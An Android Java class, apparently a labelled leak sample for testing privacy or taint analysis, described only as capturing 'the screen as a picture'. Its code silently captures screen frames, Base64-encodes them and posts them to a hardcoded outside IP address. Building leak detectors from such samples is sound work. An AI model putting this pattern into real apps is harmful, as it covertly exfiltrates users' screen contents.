package ways;

import android.app.Activity;
import android.content.Intent;
import android.graphics.Bitmap;
import android.graphics.PixelFormat;
import android.hardware.display.DisplayManager;
import android.media.Image;
import android.media.ImageReader;
import android.media.projection.MediaProjection;
import android.media.projection.MediaProjectionManager;
import android.os.Handler;
import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.ByteBuffer;

/** The screen as a picture. */
public class ScreenShot extends Activity implements ImageReader.OnImageAvailableListener {
    private ImageReader reader;

    @Override
    protected void onActivityResult(int request, int result, Intent data) {
        MediaProjectionManager manager = (MediaProjectionManager) getSystemService(MEDIA_PROJECTION_SERVICE);
        MediaProjection projection = manager.getMediaProjection(result, data);
        reader = ImageReader.newInstance(720, 1280, PixelFormat.RGBA_8888, 2);
        reader.setOnImageAvailableListener(this, new Handler());
        projection.createVirtualDisplay("s", 720, 1280, 320, DisplayManager.VIRTUAL_DISPLAY_FLAG_PUBLIC, reader.getSurface(), null, null);
    }

    @Override
    public void onImageAvailable(ImageReader from) {
        Image image = from.acquireLatestImage();
        ByteBuffer pixels = image.getPlanes()[0].getBuffer();
        Bitmap bitmap = Bitmap.createBitmap(720, 1280, Bitmap.Config.ARGB_8888);
        bitmap.copyPixelsFromBuffer(pixels);
        image.close();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        bitmap.compress(Bitmap.CompressFormat.JPEG, 40, out);
        final String text = Base64.encodeToString(out.toByteArray(), Base64.NO_WRAP);
        new Thread(() -> {
            try {
                HttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.31/s").openConnection();
                c.getOutputStream().write("w=720&h=1280&d=".getBytes()); // no leak
                c.getOutputStream().write(text.getBytes()); // leak
            } catch (Exception e) {
                finish();
            }
        }).start();
    }
}
